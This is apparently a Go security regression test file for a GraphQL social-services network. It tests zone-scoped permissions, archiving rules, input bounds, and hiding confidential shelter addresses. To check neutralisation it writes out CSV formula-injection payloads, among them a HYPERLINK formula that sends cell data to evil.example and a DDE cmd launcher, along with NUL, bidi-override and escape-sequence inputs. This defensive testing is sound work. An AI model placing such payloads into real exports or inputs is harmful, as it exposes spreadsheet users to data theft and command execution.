package graph_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"snodo/auth"
	"snodo/internal/testenv"
)

// asCoordinator runs a mutation as the viewer and returns the error code of the answer: the
// first top-level error's, else the first user error's, else "".
func mutationCode(t *testing.T, e *testenv.Env, v auth.Viewer, name, inputType string, in map[string]any) string {
	t.Helper()
	r := e.DoAs(t, v, `mutation($in: `+inputType+`!) { `+name+`(input: $in) { userErrors { field code message } } }`, map[string]any{"in": in})
	if c := r.Code(); c != "" {
		return c
	}
	if errs, _ := testenv.Get(r.Data, name, "userErrors").([]any); len(errs) > 0 {
		return testenv.Get(errs[0], "code").(string)
	}
	return ""
}

// mutateAs runs a mutation as the viewer, which must succeed with no user errors, and returns
// its payload.
func mutateAs(t *testing.T, e *testenv.Env, v auth.Viewer, name, inputType string, in map[string]any, selection string) any {
	t.Helper()
	d := mustAs(t, e, v, `mutation($in: `+inputType+`!) { `+name+`(input: $in) { `+selection+` userErrors { field code message } } }`, in)
	if errs := testenv.Get(d, name, "userErrors").([]any); len(errs) > 0 {
		t.Fatalf("%s: %v", name, errs)
	}
	return d[name]
}

// The finding: a coordinator wrote outside its zones. It edited an actor and a service only
// partly inside them (the answer was VERSION_CONFLICT, not FORBIDDEN, so the scope check had
// passed), created a route between actors of another territory, added an out-of-scope actor to
// its partnership, created a service for a provider outside its zones, and created a pathway
// model. Each is now FORBIDDEN and writes nothing.
func TestCoordinatorChangesOnlyWhatLiesWhollyInItsZones(t *testing.T) {
	e := testenv.Open(t)
	ids := network(t, e) // Follonica lies in Colline Metallifere; Grosseto does not
	coordinator := auth.Viewer{Subject: "coord-colline", Role: auth.Coordinator, ZoneIDs: []string{key(t, ids["Colline Metallifere"])}}
	create := func(name, inputType string, in map[string]any, field string) string {
		t.Helper()
		return testenv.Get(mutate(t, e, name, inputType, in, field+" { id }"), field, "id").(string)
	}
	both := []string{ids["Follonica"], ids["Grosseto"]}
	straddling := create("createActor", "CreateActorInput", map[string]any{"name": "Coop a cavallo", "kind": "COOPERATIVE", "zoneIds": both}, "actor")
	outside := create("createActor", "CreateActorInput", map[string]any{"name": "Coop Grosseto", "kind": "COOPERATIVE", "zoneIds": []string{ids["Grosseto"]}}, "actor")
	inside := create("createActor", "CreateActorInput", map[string]any{"name": "Coop Follonica", "kind": "COOPERATIVE", "zoneIds": []string{ids["Follonica"]}}, "actor")
	partService := create("createService", "CreateServiceInput", map[string]any{"providerId": ids["CPI"], "name": "Sportello a cavallo",
		"categoryId": ids["training_work"], "channel": "DESK", "zoneIds": both}, "service")
	partPartnership := create("createPartnership", "CreatePartnershipInput", map[string]any{"title": "Protocollo a cavallo", "kind": "OPERATIONAL_PROTOCOL", "zoneIds": both}, "partnership")
	outsideRoute := create("createRoute", "CreateRouteInput", map[string]any{"fromId": outside, "toId": ids["ARTI"]}, "route")

	cases := []struct {
		name, mutation, inputType string
		in                        map[string]any
		want                      string
	}{
		// Partly outside: FORBIDDEN whatever the version, stale or current.
		{"an actor partly outside, stale version", "updateActor", "UpdateActorInput", map[string]any{"id": straddling, "version": 99, "name": "X"}, "FORBIDDEN"},
		{"an actor partly outside", "updateActor", "UpdateActorInput", map[string]any{"id": straddling, "version": 1, "name": "X"}, "FORBIDDEN"},
		{"deleting an actor partly outside", "deleteActor", "DeleteActorInput", map[string]any{"id": straddling, "version": 1}, "FORBIDDEN"},
		{"a service partly outside, stale version", "updateService", "UpdateServiceInput", map[string]any{"id": partService, "version": 99, "name": "X"}, "FORBIDDEN"},
		{"a service partly outside", "updateService", "UpdateServiceInput", map[string]any{"id": partService, "version": 1, "name": "X"}, "FORBIDDEN"},
		{"the places of a service partly outside", "updateServicePlaces", "UpdatePlacesInput", map[string]any{"serviceId": partService, "freePlaces": 0, "capacity": 1, "version": 1}, "FORBIDDEN"},
		{"a partnership partly outside, stale version", "updatePartnership", "UpdatePartnershipInput", map[string]any{"id": partPartnership, "version": 99, "title": "X"}, "FORBIDDEN"},
		{"a zone outside", "updateZone", "UpdateZoneInput", map[string]any{"id": ids["Grosseto"], "version": 99, "name": "X"}, "FORBIDDEN"},
		// After the change: an object inside may not be carried partly outside.
		{"moving an actor partly outside", "updateActor", "UpdateActorInput", map[string]any{"id": inside, "version": 1, "zoneIds": both}, "FORBIDDEN"},
		{"linking a service to a zone outside", "linkService", "LinkServiceInput", map[string]any{"serviceId": ids["job desk"], "version": 1, "addZoneIds": []string{ids["Grosseto"]}}, "FORBIDDEN"},
		{"a zone given a parent outside", "updateZone", "UpdateZoneInput", map[string]any{"id": ids["Follonica"], "version": 1, "parentIds": []string{ids["Provincia di Grosseto"]}}, "FORBIDDEN"},
		{"a partnership moved outside", "updatePartnership", "UpdatePartnershipInput", map[string]any{"id": ids["protocol"], "version": 1, "zoneIds": both}, "FORBIDDEN"},
		// Routes: both ends.
		{"a route between two actors outside", "createRoute", "CreateRouteInput", map[string]any{"fromId": outside, "toId": ids["ARTI"]}, "FORBIDDEN"},
		{"a route to an actor outside", "createRoute", "CreateRouteInput", map[string]any{"fromId": inside, "toId": outside}, "FORBIDDEN"},
		{"a route from a service partly outside", "createRoute", "CreateRouteInput", map[string]any{"fromId": partService, "toId": inside}, "FORBIDDEN"},
		{"deleting a route outside", "deleteRoute", "DeleteRouteInput", map[string]any{"id": outsideRoute, "version": 1}, "FORBIDDEN"},
		// Members: the added actor too.
		{"adding an actor outside to its partnership", "addPartnershipMember", "AddMemberInput", map[string]any{"partnershipId": ids["protocol"], "version": 1, "actorId": outside, "role": "PARTNER"}, "FORBIDDEN"},
		{"adding an actor partly outside", "addPartnershipMember", "AddMemberInput", map[string]any{"partnershipId": ids["protocol"], "version": 1, "actorId": straddling, "role": "PARTNER"}, "FORBIDDEN"},
		// Services: the provider too.
		{"a service for a provider outside", "createService", "CreateServiceInput", map[string]any{"providerId": outside, "name": "S",
			"categoryId": ids["training_work"], "channel": "DESK", "zoneIds": []string{ids["Follonica"]}}, "FORBIDDEN"},
		{"a service given a provider outside", "updateService", "UpdateServiceInput", map[string]any{"id": ids["job desk"], "version": 1, "providerId": outside}, "FORBIDDEN"},
		// Pathway models: admins only.
		{"a pathway model", "createPathwayModel", "CreatePathwayModelInput", map[string]any{"name": "M", "stages": []map[string]any{{"code": "1", "name": "Uno"}}}, "FORBIDDEN"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := mutationCode(t, e, coordinator, c.mutation, c.inputType, c.in); got != c.want {
				t.Errorf("%s: %q, want %q", c.mutation, got, c.want)
			}
		})
	}

	// Nothing of the refused writes is stored.
	d := e.MustDo(t, `query($a: ID!, $s: ID!, $p: ID!, $j: ID!, $in: ID!, $f: ID!) {
		a: node(id: $a) { ... on Actor { name version } } s: node(id: $s) { ... on Service { name version } }
		p: node(id: $p) { ... on Partnership { title version members(first: 5) { totalCount } } }
		j: node(id: $j) { ... on Service { version zones { name } provider { name } } }
		in: node(id: $in) { ... on Actor { version zones { name } } } f: node(id: $f) { ... on Zone { version parents { name } } }
		routes: nextRoutes(fromId: $in) { id } }`,
		map[string]any{"a": straddling, "s": partService, "p": ids["protocol"], "j": ids["job desk"], "in": inside, "f": ids["Follonica"]})
	for what, ok := range map[string]bool{
		"actor":       testenv.Get(d, "a", "name") == "Coop a cavallo" && testenv.Get(d, "a", "version") == float64(1),
		"service":     testenv.Get(d, "s", "name") == "Sportello a cavallo" && testenv.Get(d, "s", "version") == float64(1),
		"members":     testenv.Get(d, "p", "members", "totalCount") == float64(0) && testenv.Get(d, "p", "version") == float64(1),
		"job desk":    testenv.Get(d, "j", "version") == float64(1) && len(testenv.Get(d, "j", "zones").([]any)) == 1 && testenv.Get(d, "j", "provider", "name") == "CPI Follonica",
		"moved actor": testenv.Get(d, "in", "version") == float64(1) && len(testenv.Get(d, "in", "zones").([]any)) == 1,
		"zone":        testenv.Get(d, "f", "version") == float64(1) && len(testenv.Get(d, "f", "parents").([]any)) == 2,
		"routes":      len(testenv.Get(d, "routes").([]any)) == 0,
	} {
		if !ok {
			t.Errorf("a refused write changed the %s: %v", what, d)
		}
	}

	// What lies wholly inside stays the coordinator's to change.
	for _, c := range []struct {
		mutation, inputType string
		in                  map[string]any
	}{
		{"updateActor", "UpdateActorInput", map[string]any{"id": inside, "version": 1, "name": "Coop Follonica (GR)"}},
		{"createRoute", "CreateRouteInput", map[string]any{"fromId": inside, "toId": ids["CPI"], "instrument": "scheda"}},
		{"addPartnershipMember", "AddMemberInput", map[string]any{"partnershipId": ids["protocol"], "version": 1, "actorId": inside, "role": "PARTNER"}},
		{"createService", "CreateServiceInput", map[string]any{"providerId": inside, "name": "Orientamento", "categoryId": ids["training_work"], "channel": "DESK", "zoneIds": []string{ids["Follonica"]}}},
		{"updateService", "UpdateServiceInput", map[string]any{"id": ids["job desk"], "version": 1, "providerId": inside}},
	} {
		if got := mutationCode(t, e, coordinator, c.mutation, c.inputType, c.in); got != "" {
			t.Errorf("%s inside its zones: %q", c.mutation, got)
		}
	}
	route := e.MustDo(t, `query($in: ID!) { nextRoutes(fromId: $in) { id version } }`, map[string]any{"in": inside})
	if got := mutationCode(t, e, coordinator, "deleteRoute", "DeleteRouteInput", map[string]any{"id": testenv.Get(route, "nextRoutes", 0, "id"), "version": 1}); got != "" {
		t.Errorf("deleting its own route: %q", got)
	}
}

// The finding: a coordinator gave a service to another actor, whose case manager then read
// every case referred to the service and answered its referrals. A service with referrals or
// interventions keeps its provider (HAS_DEPENDANTS), for admins too, and the would-be provider
// sees none of its referrals.
func TestProviderOfServiceWithHistoryCannotChange(t *testing.T) {
	e := testenv.Open(t)
	ids := caseWorld(t, e)
	manager := auth.Viewer{Subject: "cm", Role: auth.CaseManager, ActorID: key(t, ids["Reception centre"])}
	opened := mutateAs(t, e, manager, "openCase", "OpenCaseInput", map[string]any{"zoneId": ids["Follonica"], "modelId": ids["COMMIT"], "needIds": []string{ids["housing"], ids["work"]}, "notes": "nota riservata"}, "case { id }")
	caseID := testenv.Get(opened, "case", "id")
	mutateAs(t, e, manager, "refer", "ReferInput", map[string]any{"caseId": caseID, "toId": ids["Shelter"], "needId": ids["housing.shelter"], "consent": givenConsent}, "referral { id }")
	mutateAs(t, e, manager, "addIntervention", "AddInterventionInput", map[string]any{"caseId": caseID, "needId": ids["work.placement"], "serviceId": ids["Job desk"]}, "intervention { id }")

	for svc, why := range map[string]string{"Shelter": "a referral", "Job desk": "an intervention"} {
		code, field := userError(t, e, "updateService", "UpdateServiceInput", map[string]any{"id": ids[svc], "version": 1, "providerId": ids["Technical secretariat"]})
		if code != "HAS_DEPENDANTS" || field != "input.providerId" {
			t.Errorf("%s with %s changed provider: %s %s", svc, why, code, field)
		}
	}
	secretariat := auth.Viewer{Subject: "op-sec", Role: auth.ServiceOperator, ActorID: key(t, ids["Technical secretariat"])}
	d := mustAs(t, e, secretariat, `{ incomingReferrals(first: 10) { totalCount } }`, nil)
	if n := testenv.Get(d, "incomingReferrals", "totalCount"); n != float64(0) {
		t.Errorf("the would-be provider sees %v referrals", n)
	}
	d = e.MustDo(t, `query($s: ID!) { node(id: $s) { ... on Service { provider { name } version } } }`, map[string]any{"s": ids["Shelter"]})
	if testenv.Get(d, "node", "provider", "name") != "Shelter provider" || testenv.Get(d, "node", "version") != float64(1) {
		t.Errorf("the refused change wrote: %v", d)
	}
	// A service without history may pass to another provider.
	mutate(t, e, "updateService", "UpdateServiceInput", map[string]any{"id": ids["Old desk"], "version": 1, "providerId": ids["Technical secretariat"]}, "service { id }")
}

// The finding: deleting a service or an actor with referrals or a managed case succeeded, and
// the case then answered INTERNAL_SERVER_ERROR. Zones, actors, services and stages with history
// are now kept (HAS_DEPENDANTS) and archived instead.
func TestRecordsWithHistoryAreArchivedNotDeleted(t *testing.T) {
	e := testenv.Open(t)
	ids := caseWorld(t, e)
	manager := auth.Viewer{Subject: "cm", Role: auth.CaseManager, ActorID: key(t, ids["Reception centre"])}
	opened := mutateAs(t, e, manager, "openCase", "OpenCaseInput", map[string]any{"zoneId": ids["Grosseto"], "modelId": ids["COMMIT"], "needIds": []string{ids["housing"], ids["work"]}}, "case { id }")
	caseID := testenv.Get(opened, "case", "id")
	mutateAs(t, e, manager, "refer", "ReferInput", map[string]any{"caseId": caseID, "toId": ids["Shelter"], "needId": ids["housing.shelter"], "consent": givenConsent}, "referral { id }")
	mutateAs(t, e, manager, "refer", "ReferInput", map[string]any{"caseId": caseID, "toId": ids["Technical secretariat"], "needId": ids["housing"], "consent": givenConsent}, "referral { id }")
	mutateAs(t, e, manager, "addIntervention", "AddInterventionInput", map[string]any{"caseId": caseID, "needId": ids["work.placement"], "serviceId": ids["Job desk"]}, "intervention { id }")
	// A fresh actor whose only history is the route it starts.
	routed := testenv.Get(mutate(t, e, "createActor", "CreateActorInput", map[string]any{"name": "Unità di strada", "kind": "OTHER", "zoneIds": []string{ids["Toscana"]}}, "actor { id }"), "actor", "id")
	mutate(t, e, "createRoute", "CreateRouteInput", map[string]any{"fromId": routed, "toId": ids["Reception centre"]}, "route { id }")

	for _, c := range []struct{ what, mutation, inputType, id, mentions string }{
		{"a service with a referral", "deleteService", "DeleteServiceInput", ids["Shelter"], "referrals"},
		{"a service with an intervention", "deleteService", "DeleteServiceInput", ids["Job desk"], "interventions"},
		{"an actor managing a case", "deleteActor", "DeleteActorInput", ids["Reception centre"], "managed cases"},
		{"an actor a referral was sent to", "deleteActor", "DeleteActorInput", ids["Technical secretariat"], "referrals"},
		{"an actor a route starts from", "deleteActor", "DeleteActorInput", routed.(string), "routes"},
		{"a zone with a case", "deleteZone", "DeleteZoneInput", ids["Grosseto"], "cases"},
	} {
		d := e.MustDo(t, `mutation($in: `+c.inputType+`!) { `+c.mutation+`(input: $in) { deletedId userErrors { code message } } }`,
			map[string]any{"in": map[string]any{"id": c.id, "version": 1}})
		errs := testenv.Get(d, c.mutation, "userErrors").([]any)
		if len(errs) == 0 || testenv.Get(errs[0], "code") != "HAS_DEPENDANTS" || !strings.Contains(testenv.Get(errs[0], "message").(string), c.mentions) {
			t.Errorf("%s: %v", c.what, d)
		}
	}
	// A stage that a case is at stays in its model.
	code, field := userError(t, e, "updatePathwayModel", "UpdatePathwayModelInput", map[string]any{"id": ids["COMMIT"], "version": 1,
		"stages": []map[string]any{{"code": "2a", "name": "Prima valutazione"}}})
	if code != "HAS_DEPENDANTS" || field != "input.stages" {
		t.Errorf("removing the stage a case is at: %s %s", code, field)
	}

	// They are archived instead, and lists can leave archived records out.
	mutate(t, e, "updateActor", "UpdateActorInput", map[string]any{"id": ids["Technical secretariat"], "version": 1, "status": "ARCHIVED"}, "actor { status }")
	mutate(t, e, "updateZone", "UpdateZoneInput", map[string]any{"id": ids["Grosseto"], "version": 1, "status": "ARCHIVED"}, "zone { status }")
	mutate(t, e, "updateService", "UpdateServiceInput", map[string]any{"id": ids["Shelter"], "version": 1, "status": "ARCHIVED"}, "service { status }")
	d := e.MustDo(t, `{ archived: actors(filter: {statuses: [ARCHIVED]}) { edges { node { name status } } }
		active: actors(filter: {statuses: [ACTIVE]}) { totalCount } all: actors { totalCount }
		zones(filter: {statuses: [ARCHIVED]}) { edges { node { name status } } } }`, nil)
	if testenv.Get(d, "archived", "edges", 0, "node", "name") != "Technical secretariat" || len(testenv.Get(d, "archived", "edges").([]any)) != 1 ||
		testenv.Get(d, "active", "totalCount").(float64)+1 != testenv.Get(d, "all", "totalCount") || testenv.Get(d, "zones", "edges", 0, "node", "name") != "Grosseto" {
		t.Errorf("archived: %v", d)
	}
	// The case still reads whole, with the archived records in it.
	r := e.Do(t, `query($c: ID!) { caseTrace(id: $c) { case { zone { name status } managingActor { name }
		referrals { to { ... on Service { name serviceStatus: status } ... on Actor { name status } } } plan { interventions { service { name } } } }
		events { kind } nodes { id } } }`, map[string]any{"c": caseID})
	if len(r.Errors) > 0 || testenv.Get(r.Data, "caseTrace", "case", "zone", "status") != "ARCHIVED" {
		t.Errorf("the case after archiving: %+v %v", r.Errors, r.Data)
	}
}

// The finding: one anonymous 900 KB search kept Neo4j busy well past the request timeout, and
// a search of over 1024 words answered INTERNAL_SERVER_ERROR. A search is at most 200
// characters and 16 words, refused with BAD_USER_INPUT before any Cypher runs.
func TestSearchIsBoundedBeforeAnyQuery(t *testing.T) {
	e := testenv.Open(t)
	anonymous := auth.Viewer{Role: auth.Anonymous}
	huge := strings.Repeat("follonica ", 90_000) // 900 KB
	many := strings.Repeat("a ", 1100)
	for _, c := range []struct{ what, list, search string }{
		{"900 KB", "services", huge}, {"900 KB", "zones", huge}, {"1100 words", "actors", many},
		{"17 words", "partnerships", strings.Repeat("w ", 17)}, {"201 characters", "needs", strings.Repeat("x", 201)},
		{"a NUL", "zones", "follo\x00nica"}, {"a bidi override", "services", "\u202ealloggio"},
	} {
		start := time.Now()
		r := e.DoAs(t, anonymous, `query($s: String!) { `+c.list+`(filter: {search: $s}) { totalCount } }`, map[string]any{"s": c.search})
		if r.Code() != "BAD_USER_INPUT" || r.Queries != 0 {
			t.Errorf("%s search of %s: code %q after %d queries: %+v", c.what, c.list, r.Code(), r.Queries, r.Errors)
		}
		took := time.Since(start)
		if took > 2*time.Second {
			t.Errorf("%s search of %s took %v", c.what, c.list, took)
		}
		t.Logf("%s search of %s: %s in %v", c.what, c.list, r.Code(), took)
	}
	// A search of 16 words and 200 characters runs.
	r := e.DoAs(t, anonymous, `query($s: String!) { zones(filter: {search: $s}) { totalCount } }`, map[string]any{"s": strings.TrimSpace(strings.Repeat("zona ", 16))})
	if len(r.Errors) > 0 {
		t.Errorf("a 16-word search: %+v", r.Errors)
	}
	// An absurd ID is refused without being read back in the answer.
	r = e.DoAs(t, anonymous, `query($z: ID!) { services(filter: {zone: $z}) { totalCount } }`, map[string]any{"z": strings.Repeat("Wm9uZT", 50_000)})
	if r.Code() != "INVALID_ID" || len(r.Errors[0].Message) > 200 {
		t.Errorf("a 300 KB ID: %q %d characters", r.Code(), len(fmt.Sprint(r.Errors)))
	}
}

// The finding: names accepted NUL and U+202E. Names and one-line texts refuse control and
// bidirectional characters; long texts allow newline and tab only; every string has a length.
func TestTextInputsRefuseControlAndBidiCharacters(t *testing.T) {
	e := testenv.Open(t)
	ids := network(t, e)
	for _, c := range []struct {
		what, mutation, inputType string
		in                        map[string]any
		field                     string
	}{
		{"a NUL in a zone name", "createZone", "CreateZoneInput", map[string]any{"name": "Folloni\x00ca", "kind": "CUSTOM"}, "input.name"},
		{"an override in an actor name", "createActor", "CreateActorInput", map[string]any{"name": "Coop \u202easerpmi", "kind": "OTHER", "zoneIds": []string{ids["Toscana"]}}, "input.name"},
		{"an isolate in a title", "createPartnership", "CreatePartnershipInput", map[string]any{"title": "Protocollo \u2066x\u2069", "kind": "CONVENTION", "zoneIds": []string{ids["Toscana"]}}, "input.title"},
		{"a newline in a name", "updateZone", "UpdateZoneInput", map[string]any{"id": ids["Follonica"], "version": 1, "name": "Follonica\nGrosseto"}, "input.name"},
		{"an escape in a description", "updateActor", "UpdateActorInput", map[string]any{"id": ids["CPI"], "version": 1, "description": "testo\x1b[31m"}, "input.description"},
		{"an override in a description", "updateService", "UpdateServiceInput", map[string]any{"id": ids["job desk"], "version": 1, "description": "a\u202db"}, "input.description"},
		{"a tab in a required document", "updateService", "UpdateServiceInput", map[string]any{"id": ids["job desk"], "version": 1, "requiredDocuments": []string{"carta\td'identità"}}, "input.requiredDocuments"},
		{"a long description", "updateActor", "UpdateActorInput", map[string]any{"id": ids["CPI"], "version": 1, "description": strings.Repeat("è", 2001)}, "input.description"},
		{"a long address", "updateActor", "UpdateActorInput", map[string]any{"id": ids["CPI"], "version": 1, "contacts": map[string]any{"address": strings.Repeat("via ", 100)}}, "input.contacts.address"},
		{"a long instrument", "createRoute", "CreateRouteInput", map[string]any{"fromId": ids["CPI"], "toId": ids["ARTI"], "instrument": strings.Repeat("s", 201)}, "input.instrument"},
		{"a NUL in a stage code", "createPathwayModel", "CreatePathwayModelInput", map[string]any{"name": "M", "stages": []map[string]any{{"code": "1\x00", "name": "Uno"}}}, "input.stages.0.code"},
	} {
		code, field := userError(t, e, c.mutation, c.inputType, c.in)
		if code != "INVALID" || field != c.field {
			t.Errorf("%s: %s at %s, want INVALID at %s", c.what, code, field, c.field)
		}
	}
	// Newlines and tabs stay allowed in long text.
	d := mutate(t, e, "updateActor", "UpdateActorInput", map[string]any{"id": ids["CPI"], "version": 1, "description": "Prima riga.\n\tSeconda riga."}, "actor { description }")
	if testenv.Get(d, "actor", "description") != "Prima riga.\n\tSeconda riga." {
		t.Errorf("description: %v", d)
	}
}

// The finding: a zone named =HYPERLINK(...) or +cmd|' /C calc'!A0 was written unchanged into
// coverage.csv, where a spreadsheet runs it. Such cells now start with a single quote.
func TestCoverageCSVNeutralisesFormulas(t *testing.T) {
	e := testenv.Open(t)
	ids := network(t, e)
	names := []string{`=HYPERLINK("http://evil.example/?d="&A2,"Apri")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`}
	for _, n := range names {
		mutate(t, e, "createZone", "CreateZoneInput", map[string]any{"name": n, "kind": "MUNICIPALITY", "parentIds": []string{ids["Provincia di Grosseto"]}}, "zone { id }")
	}
	d := e.MustDo(t, `query($z: ID!) { coverage(input: {zoneId: $z, level: MUNICIPALITY}) { csv } }`, map[string]any{"z": ids["Provincia di Grosseto"]})
	rows, err := csv.NewReader(strings.NewReader(testenv.Get(d, "coverage", "csv").(string))).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
		seen[row[0]] = true
	}
	for _, n := range names {
		if !seen["'"+n] {
			t.Errorf("the zone %q is not in the CSV as text: %v", n, seen)
		}
	}
}

// The finding: anti-trafficking shelters work at confidential addresses, and their address and
// real-time free places were public to anonymous visitors. A confidential service shows public
// readers what it offers and its provider's contacts, never its address, hours or places, in
// any list, the finder or the coverage; the network's roles see everything.
func TestConfidentialServiceHidesWhereAndHowManyFromPublicReaders(t *testing.T) {
	e := testenv.Open(t)
	ids := network(t, e)
	d := mutate(t, e, "createService", "CreateServiceInput", map[string]any{
		"providerId": ids["ARTI"], "name": "Casa rifugio", "categoryId": ids["housing_mobility"], "channel": "SHELTER",
		"confidential": true, "address": "Via Riservata 1, Follonica", "capacity": 6, "freePlaces": 2,
		"openingHours": []map[string]any{{"day": "MON", "opens": "08:00", "closes": "20:00"}},
		"needIds":      []string{ids["housing.shelter"]}, "zoneIds": []string{ids["Follonica"]},
	}, "service { id }")
	shelter := testenv.Get(d, "service", "id").(string)
	const fields = `name confidential address capacity freePlaces placesUpdatedAt openingHours { day } provider { name contacts { email } }`
	query := `query($s: ID!, $z: ID!, $n: ID!) {
		node(id: $s) { ... on Service { ` + fields + ` } }
		services(filter: {search: "rifugio"}) { edges { node { ` + fields + ` } } }
		zone: node(id: $z) { ... on Zone { services(first: 10) { edges { node { name freePlaces } } } } }
		findServices(input: {needId: $n, zoneId: $z, openAt: "2026-11-24T22:00:00+01:00"}) { edges { node { service { name freePlaces } reasons barriers { code } placesAgeHours } } }
		free: findServices(input: {needId: $n, zoneId: $z, hasFreePlaces: true}) { edges { node { service { name } } } }
		coverage(input: {zoneId: $z, needIds: [$n]}) { cells { full partial withFreePlaces } csv } }`
	vars := map[string]any{"s": shelter, "z": ids["Follonica"], "n": ids["housing.shelter"]}
	public := []auth.Viewer{{Role: auth.Anonymous}, {Subject: "res", Role: auth.Researcher}}
	network := []auth.Viewer{testenv.Admin, {Subject: "cm", Role: auth.CaseManager, ActorID: key(t, ids["CPI"])},
		{Subject: "op", Role: auth.ServiceOperator, ActorID: key(t, ids["CPI"])}, {Subject: "co", Role: auth.Coordinator, ZoneIDs: []string{key(t, ids["Toscana"])}}}
	for _, v := range append(public, network...) {
		r := e.DoAs(t, v, query, vars)
		if len(r.Errors) > 0 {
			t.Fatalf("%s: %+v", v.Role, r.Errors)
		}
		sees := v.Role != auth.Anonymous && v.Role != auth.Researcher
		svc := r.Data["node"]
		hidden := testenv.Get(svc, "address") == nil && testenv.Get(svc, "capacity") == nil && testenv.Get(svc, "freePlaces") == nil &&
			testenv.Get(svc, "placesUpdatedAt") == nil && len(testenv.Get(svc, "openingHours").([]any)) == 0
		shown := testenv.Get(svc, "address") == "Via Riservata 1, Follonica" && testenv.Get(svc, "freePlaces") == float64(2) &&
			testenv.Get(svc, "capacity") == float64(6) && len(testenv.Get(svc, "openingHours").([]any)) == 1
		if testenv.Get(svc, "name") != "Casa rifugio" || testenv.Get(svc, "confidential") != true || testenv.Get(svc, "provider", "name") != "ARTI Toscana" {
			t.Errorf("%s does not see that the shelter exists: %v", v.Role, svc)
		}
		if (sees && !shown) || (!sees && !hidden) {
			t.Errorf("%s sees the shelter as %v", v.Role, svc)
		}
		listed := testenv.Get(r.Data, "services", "edges", 0, "node")
		if (!sees && testenv.Get(listed, "freePlaces") != nil) || (sees && testenv.Get(listed, "freePlaces") != float64(2)) {
			t.Errorf("%s lists the shelter as %v", v.Role, listed)
		}
		for _, edge := range testenv.Get(r.Data, "zone", "services", "edges").([]any) {
			if testenv.Get(edge, "node", "name") == "Casa rifugio" && !sees && testenv.Get(edge, "node", "freePlaces") != nil {
				t.Errorf("%s reads the places through the zone: %v", v.Role, edge)
			}
		}
		var match any
		for _, edge := range testenv.Get(r.Data, "findServices", "edges").([]any) {
			if testenv.Get(edge, "node", "service", "name") == "Casa rifugio" {
				match = testenv.Get(edge, "node")
			}
		}
		if match == nil {
			t.Fatalf("%s does not find the shelter", v.Role)
		}
		said := fmt.Sprint(testenv.Get(match, "reasons"), testenv.Get(match, "barriers"))
		if !sees && (strings.Contains(said, "free places") || strings.Contains(said, "CLOSED") || strings.Contains(said, "NO_FREE_PLACES") || testenv.Get(match, "placesAgeHours") != nil) {
			t.Errorf("%s learns hours or places from the match: %v", v.Role, match)
		}
		if sees && (!strings.Contains(said, "2 free places of 6") || !strings.Contains(said, "CLOSED")) {
			t.Errorf("%s does not learn what the network needs from the match: %v", v.Role, match)
		}
		// The network's other shelter, of the province, has free places for everyone to see.
		wantFree := 1
		if sees {
			wantFree = 2
		}
		free := len(testenv.Get(r.Data, "free", "edges").([]any))
		cell := testenv.Get(r.Data, "coverage", "cells", 0)
		if free != wantFree || testenv.Get(cell, "withFreePlaces") != float64(wantFree) || testenv.Get(cell, "full") != float64(2) {
			t.Errorf("%s: free-places matches %d, coverage %v", v.Role, free, cell)
		}
	}
	// Asked only fields read as properties, the service is read with just those (and the flag
	// that hides them): still hidden from the public, shown to the network.
	lean := `query($s: ID!) { node(id: $s) { ... on Service { name address capacity freePlaces } }
		services(filter: {search: "rifugio"}) { edges { node { name address capacity freePlaces } } } }`
	for _, v := range append(public, network...) {
		r := e.DoAs(t, v, lean, map[string]any{"s": shelter})
		if len(r.Errors) > 0 {
			t.Fatalf("%s: %+v", v.Role, r.Errors)
		}
		sees := v.Role != auth.Anonymous && v.Role != auth.Researcher
		for _, svc := range []any{r.Data["node"], testenv.Get(r.Data, "services", "edges", 0, "node")} {
			shown := testenv.Get(svc, "address") == "Via Riservata 1, Follonica" && testenv.Get(svc, "freePlaces") == float64(2) && testenv.Get(svc, "capacity") == float64(6)
			hidden := testenv.Get(svc, "address") == nil && testenv.Get(svc, "freePlaces") == nil && testenv.Get(svc, "capacity") == nil
			if testenv.Get(svc, "name") != "Casa rifugio" || (sees && !shown) || (!sees && !hidden) {
				t.Errorf("%s reads the shelter, asked only properties, as %v", v.Role, svc)
			}
		}
	}
	// A zone's indicators count the confidential shelter's places for the network only: in
	// Follonica it is the only shelter, so a sum would be its count.
	for _, c := range []struct {
		viewer    auth.Viewer
		free, all float64
	}{{public[1], 0, 0}, {network[3], 2, 6}} {
		r := e.DoAs(t, c.viewer, `query($z: ID!) { indicators(zoneId: $z, period: "2026-Q3") { shelterPlacesFree shelterCapacity } }`, map[string]any{"z": ids["Follonica"]})
		if len(r.Errors) > 0 || testenv.Get(r.Data, "indicators", "shelterPlacesFree") != c.free || testenv.Get(r.Data, "indicators", "shelterCapacity") != c.all {
			t.Errorf("%s reads the indicators %v %+v", c.viewer.Role, r.Data, r.Errors)
		}
	}
}
